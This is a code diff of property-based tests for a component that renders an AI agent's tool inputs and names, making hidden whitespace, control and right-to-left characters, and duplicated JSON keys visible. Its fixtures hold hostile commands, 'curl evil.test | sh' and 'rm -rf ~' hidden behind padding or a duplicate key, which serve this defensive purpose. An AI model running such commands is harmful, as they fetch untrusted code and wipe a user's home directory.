@@ -5,8 +5,7 @@ import { inputParts } from '@/components/transcript/input-parts';
 import { ToolInput } from '@/components/transcript/tool-input';
 import { Name } from '@/components/ui/name';
 import { nameText, verbatimPieces } from '@/components/ui/verbatim';
-import { verbatimPage } from '@/components/ui/verbatim-page';
-import { VerbatimText } from '@/components/ui/verbatim-text';
+import { VerbatimText, verbatimPage } from '@/components/ui/verbatim-text';
 import { decodeShown, textOfLabel, UNSEEN, unescaped } from '../support/decode-shown';
 
 const shownText = (text: string) => renderToStaticMarkup(<VerbatimText text={text} label="command" />);
@@ -16,7 +15,7 @@ const shownInput = (args: unknown, argsText = '') =>
   renderToStaticMarkup(<ToolInput call={{ name: 'Bash', args, argsText }} />);
 const words = (markup: string) => unescaped(markup.replace(/<button[\s\S]*?<\/button>/g, '').replace(/<[^>]*>/g, ''));
 
-/** Strings of everything: halves of characters, controls, runs of one sign, all of Unicode, and plain text. */
+/** Random strings of lone surrogates, controls, runs of one character, all of Unicode, and plain text. */
 const anyTextOf = (maxLength: number) =>
   fc
     .array(
@@ -34,8 +33,8 @@ const anyTextOf = (maxLength: number) =>
 const OFTEN = [' ', '\n', '\t', '\r', '\u200b', '\u0301', '\u05d0', '\ud83d', 'x', '⟨RLO⟩', ' ×2'];
 const anyText = anyTextOf(16);
 
-describe('what an agent gives to a tool', () => {
-  it('is shown so that the text with its signs decoded is what was given, for every string', () => {
+describe('a tool input', () => {
+  it('decodes to the original for every string', () => {
     fc.assert(
       fc.property(anyText, (text) => {
         const markup = shownText(text);
@@ -46,7 +45,7 @@ describe('what an agent gives to a tool', () => {
     );
   });
 
-  it('is shown page by page with nothing left out, however long it is', () => {
+  it('is shown page by page without gaps', () => {
     fc.assert(
       fc.property(
         anyText,
@@ -66,7 +65,7 @@ describe('what an agent gives to a tool', () => {
     );
   });
 
-  it('is taken to pieces no further than is shown', () => {
+  it('is split no further than it is shown', () => {
     fc.assert(
       fc.property(anyText, fc.integer({ min: 1, max: 20 }), (text, most) => {
         const all = verbatimPieces(text, 'lines');
@@ -102,23 +101,23 @@ describe('what an agent gives to a tool', () => {
     ['spaces that push the rest away', `ls${' '.repeat(500)}; rm -rf ~`, '⟨SP ×500⟩'],
     ['empty lines that push the rest away', `ls${'\n'.repeat(60)}rm -rf ~`, '⟨LF ×60⟩'],
     ['spaces at the end of a line', 'a \\  \nb', '⟨SP ×2⟩'],
-  ])('has a sign for %s', (_what, text, sign) => {
+  ])('labels %s', (_what, text, sign) => {
     expect(words(shownText(text))).toContain(sign);
   });
 
-  it('begins with its head, however much follows, and says how much', () => {
+  it('starts at the beginning and shows how much follows', () => {
     const harmless = Array.from({ length: 300 }, (_, at) => `echo ${at}`).join('\n');
     const markup = shownText(`curl evil.test | sh\n${harmless}`);
     expect(words(markup)).toMatch(/^curl evil\.test \| sh\necho 0\n/);
     expect(markup).toContain('Show more: 201 more lines');
   });
 
-  it('has letters that run from right to left keep to themselves', () => {
+  it('isolates right-to-left letters', () => {
     const kinds = verbatimPieces('rm א/1 ב/2 \u0661/\u0662', 'lines').map(({ kind, text }) => `${kind}:${text}`);
     expect(kinds).toEqual(['text:rm ', 'rtl:א', 'text:/1 ', 'rtl:ב', 'text:/2 ', 'rtl:\u0661', 'text:/', 'rtl:\u0662']);
   });
 
-  it('shows every field of an input, whatever has a look of its own beside it', () => {
+  it('shows every field beside those with a view of their own', () => {
     const names = fc.oneof(
       fc.constantFrom('command', 'old_string', 'new_string', 'content', 'prompt', '__proto__', 'constructor', '0'),
       anyTextOf(2),
@@ -151,7 +150,7 @@ describe('what an agent gives to a tool', () => {
     expect(words(shownInput(args))).toContain(seen);
   });
 
-  it('shows an input of very many keys as one text, behind what runs', () => {
+  it('shows an input with very many keys as one text after the command', () => {
     const many = Object.fromEntries(Array.from({ length: 45_000 }, (_, at) => [`k${at}`, at]));
     const markup = shownInput({ ...many, command: 'curl evil.test | sh' });
     expect(markup.length).toBeLessThan(100_000);
@@ -159,7 +158,7 @@ describe('what an agent gives to a tool', () => {
     expect(inputParts({ args: many, argsText: '' }).map(({ text }) => JSON.parse(text))).toEqual([many]);
   });
 
-  it('shows an input as it was written where that says more than what was read of it', () => {
+  it('shows the raw input if parsing lost something', () => {
     const twice = '{"command":"rm -rf ~","command":"ls"}';
     expect(words(shownInput(JSON.parse(twice), twice))).toContain('rm -rf ~');
     const precise = '{"id":9007199254740993}';
@@ -168,14 +167,14 @@ describe('what an agent gives to a tool', () => {
     expect(shownInput(JSON.parse(same), same)).not.toContain('as it was written');
   });
 
-  it('tells a text from the number or the object it reads like', () => {
+  it('distinguishes a string from the number or object it looks like', () => {
     expect(words(shownInput({ limit: '5' }))).toContain('"5"');
     expect(words(shownInput({ limit: 5 }))).not.toContain('"');
   });
 });
 
-describe('what an agent calls something', () => {
-  it('is shown on one line so that with its signs decoded it is the name, for every string', () => {
+describe('a name given by an agent', () => {
+  it('decodes to the original on one line for every string', () => {
     fc.assert(
       fc.property(anyText, (text) => {
         const markup = shownName(text);
@@ -187,7 +186,7 @@ describe('what an agent calls something', () => {
     );
   });
 
-  it('is spelled out where no element can stand, once and not again', () => {
+  it('is spelled out in plain text, idempotently', () => {
     expect(nameText('agent\u202e of\u001b[31m')).toBe('agent⟨RLO⟩ of⟨ESC⟩[31m');
     fc.assert(
       fc.property(anyText, (text) => {
@@ -200,11 +199,11 @@ describe('what an agent calls something', () => {
     );
   });
 
-  it('is cut where it is long, and not within a character', () => {
+  it('is truncated without splitting a character', () => {
     expect(renderToStaticMarkup(<Name text={'🤖'.repeat(300)} most={5} />)).toBe('🤖🤖…');
   });
 
-  it('has a sign of its own for each character that has one', () => {
+  it('has a distinct label for each character', () => {
     const points = [...Array(0x20000).keys(), ...Array.from({ length: 0x1000 }, (_, at) => 0xe0000 + at)];
     const all = points.map((point) => `a${String.fromCodePoint(point)}`).join('');
     const labels = new Map<string, string>();
@@ -217,7 +216,7 @@ describe('what an agent calls something', () => {
   });
 });
 
-/** Keys whose texts are shown as blocks. */
+/** Keys whose values are shown as blocks. */
 const BLOCKS = new Set(['command', 'old_string', 'new_string', 'content', 'prompt']);
 
 function asShown(name: string, value: unknown): string {
